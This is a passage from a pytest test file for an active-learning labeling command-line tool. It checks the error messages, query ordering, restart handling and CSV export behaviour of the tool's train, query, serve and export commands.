                         str(tmp_path / "m2.skops")]) == 2
        assert ("expected column names" if option[1] == " " else
                '"x" is the id column') in one_line_error(capsys)
    import builtins

    real_open = builtins.open

    def locked(file, *args, **kwargs):
        if str(file) == str(model):
            raise PermissionError(13, "Permission denied")
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", locked)
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o", out]) == 2
    assert f'Cannot read the model file "{model}": permission denied' in \
        one_line_error(capsys)


def test_query_replaces_its_own_untouched_queries_whatever_pool_they_came_from(
        model_files, tmp_path):
    model, pool = model_files
    out = tmp_path / "q.csv"
    noted = tmp_path / "noted.csv"
    pd.read_csv(pool).assign(note="kept from the pool").to_csv(noted, index=False)
    assert cli.main(["query", "--model", str(model), "--input", str(noted),
                     "-o", str(out)]) == 0
    # Another pool, without "note": the values are query's own, not typed by someone.
    assert cli.main(["query", "--model", str(model), "--input", str(pool),
                     "-o", str(out)]) == 0
    assert "note" not in pd.read_csv(out).columns


def test_query_with_an_id_column_the_pool_lacks_says_so_before_scoring(model_files,
                                                                      tmp_path, capsys):
    model, pool = model_files
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "--id-column",
                     "nope", "-o", str(tmp_path / "q.csv")]) == 2
    message = one_line_error(capsys)
    assert message.startswith(f'error: No column "nope" (--id-column) in the pool "{pool}"')
    assert "--debug" not in message


def test_a_row_with_too_many_fields_is_one_line_with_no_blank_line(model_files, tmp_path,
                                                                   capsys):
    model, _ = model_files
    ragged = tmp_path / "ragged.csv"
    ragged.write_text("id,x,y\n1,0.5,0.5\n2,0.1,0.2,0.3\n")
    assert cli.main(["query", "--model", str(model), "--input", str(ragged),
                     "-o", str(tmp_path / "q.csv")]) == 2
    err = capsys.readouterr().err
    assert err.endswith("double quotes?)\n") and "\n\n" not in err, repr(err)


def test_queries_made_from_the_training_table_order_the_pool_it_came_from(float_pool,
                                                                          tmp_path, capsys):
    """`query` on the table `train` learned from keeps its (empty) label column: the
    served pool has not that column, and its items must still be found."""
    frame, pool, model = float_pool
    table = tmp_path / "table.csv"
    frame.assign(label=["p", "n"] * 15 + [""] * 370).to_csv(table, index=False)
    queries = tmp_path / "q.csv"
    assert cli.main(["query", "--model", str(model), "--input", str(table), "-o",
                     str(queries)]) == 0
    assert "label" in pd.read_csv(queries).columns
    project = open_project(pool, tmp_path / "labels.db", {"categories": "p,n"},
                           progress=False)
    capsys.readouterr()
    cli._order_queue(project, str(queries), str(pool))
    assert "370 items scored" in capsys.readouterr().err


def test_queries_without_the_id_column_are_said_to_come_from_another_table(tmp_path):
    from assisted_labeling.queries import priorities_from_file

    queries = tmp_path / "q.csv"
    pd.DataFrame({"x": [1, 2], "uncertainty": [0.5, 0.4]}).to_csv(queries, index=False)
    with pytest.raises(LabelingError, match='has no column "rid", the id column of the '
                                            "items: were these queries made from another"):
        list(priorities_from_file(queries, "rid"))


def test_query_says_a_store_of_another_table_is_one(model_files, tmp_path, capsys):
    model, pool = model_files
    other = tmp_path / "other.csv"
    pd.DataFrame({"rid": [1, 2], "x": [0.1, 0.2], "y": [0.3, 0.4]}).to_csv(other,
                                                                         index=False)
    open_project(other, tmp_path / "s.db", {"categories": "a,b", "id_column": "rid"},
                 progress=False).store.close()
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(tmp_path / "q.csv"), "--store", str(tmp_path / "s.db")]) == 2
    assert 'names its items by the column "rid", which the pool' in one_line_error(capsys)
    unrelated = tmp_path / "unrelated.csv"
    pd.DataFrame({"t": ["a", "b"], "z": [1, 2]}).to_csv(unrelated, index=False)
    open_project(unrelated, tmp_path / "u.db", {"categories": "a,b"},
                 progress=False).store.close()
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(tmp_path / "q.csv"), "--store", str(tmp_path / "u.db")]) == 2
    assert "have no column of the pool" in one_line_error(capsys)


def test_serving_older_queries_than_the_stores_session_says_where_labels_count(
        float_pool, tmp_path, capsys):
    frame, pool, model = float_pool
    project = open_project(pool, tmp_path / "labels.db", {"categories": "p,n"},
                           progress=False)
    first, second = tmp_path / "q1.csv", tmp_path / "q2.csv"
    for out in (first, second):
        assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                         str(out), "--store", str(tmp_path / "labels.db"),
                         "--max-queries", "10"]) == 0
    cli._order_queue(project, str(second), str(pool))
    capsys.readouterr()
    cli._order_queue(project, str(first), str(pool))
    err = capsys.readouterr().err
    assert ('holds the queries of session 1, lower than the store\'s session 2'
            in err)
    assert project.store.get_meta("session") == "2"


def test_a_restart_without_queries_says_the_queue_keeps_its_last_ranking(
        float_pool, tmp_path, capsys):
    frame, pool, model = float_pool
    project = open_project(pool, tmp_path / "labels.db", {"categories": "p,n"},
                           progress=False)
    cli._say_kept_ranking(project)
    assert capsys.readouterr().err == ""  # never ranked
    queries = queries_of(pool, model, tmp_path / "q.csv")
    cli._order_queue(project, str(queries), str(pool))
    capsys.readouterr()
    cli._say_kept_ranking(project)
    assert "keeps the order of the queries it was last given" in capsys.readouterr().err


def test_warnings_read_like_the_tools_other_notes():
    import logging

    formatter = cli.CliLogFormatter()

    def record(level: int) -> logging.LogRecord:
        return logging.LogRecord("assisted_labeling.models", level, __file__, 1,
                                 "columns %s left out", ("a",), None)

    assert formatter.format(record(logging.WARNING)) == "Warning: columns a left out"
    assert formatter.format(record(logging.ERROR)) == \
        "ERROR assisted_labeling.models: columns a left out"


def test_train_says_when_a_wordy_column_is_read_as_categories(tmp_path, capsys):
    """Reviews that repeat (a few texts, many times) are one-hot encoded, which learns
    nothing of new texts: train says so, and how to read their words instead."""
    texts = ["great value for the money", "broke after two days of use",
             "arrived late but works fine", "would not buy this again"]
    table = tmp_path / "t.csv"
    pd.DataFrame({"review": texts * 10, "stars": range(40),
                  "label": ["pos", "neg", "pos", "neg"] * 10}).to_csv(table, index=False)
    assert cli.main(["train", str(table), "--feature-columns", "review,stars",
                     "-o", str(tmp_path / "m.skops")]) == 0
    err = capsys.readouterr().err
    assert "Features: review (category), stars (number)" in err
    assert 'Note: "review" holds several words a value, read as categories' in err
    assert "--text-column review" in err


def test_a_restart_without_id_column_takes_the_stores(tmp_path, capsys, monkeypatch):
    """Leaving --id-column out on a restart means "as before", not "another id": the
    store's is taken, and said; another one is still refused."""
    import assisted_labeling.server

    project = served(tmp_path, "id,text\n1,good\n2,bad\n", "pos,neg", [("1", "pos")])
    project.store.close()
    started = []
    monkeypatch.setattr(assisted_labeling.server, "serve",
                        lambda app_factory, **kwargs: started.append(app_factory()))
    serve = ["serve", str(tmp_path / "rows.csv"), "--categories", "pos,neg", "--store",
             str(tmp_path / "labels.db"), "--port", str(free_port())]
    assert cli.main(serve) == 0 and len(started) == 1
    assert 'the store\'s id column "id"' in capsys.readouterr().err
    assert cli.main([*serve, "--id-column", "text"]) == 2
    assert 'column "id"' in one_line_error(capsys)


def test_query_says_it_writes_a_long_table(float_pool, tmp_path, capsys, monkeypatch):
    """Writing a million queries takes seconds after the scoring bar is full: said."""
    _, pool, model = float_pool
    monkeypatch.setattr(cli, "LONG_WRITE_ROWS", 2)
    queries_of(pool, model, tmp_path / "q.csv")
    assert "Writing 400 queries to" in capsys.readouterr().err


def test_a_carriage_return_in_a_comment_keeps_its_csv_row_whole(tmp_path):
    project = served(tmp_path, "id,text\n1,a\n2,b\n", "pos,neg")
    project.annotate(LOCAL_USER, {"item_id": "1", "label": "pos", "comment": "a\rX"})
    project.annotate(LOCAL_USER, {"item_id": "2", "label": "neg", "comment": "fine"})
    db = project.store.path
    project.store.close()
    out = tmp_path / "meta.csv"
    assert cli.main(["export", "--store", str(db), "--table", "metadata",
                     "-o", str(out)]) == 0
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert frame["comment"].tolist() == ["a\rX", "fine"]
    assert frame["data_id"].tolist() == ["1", "2"]
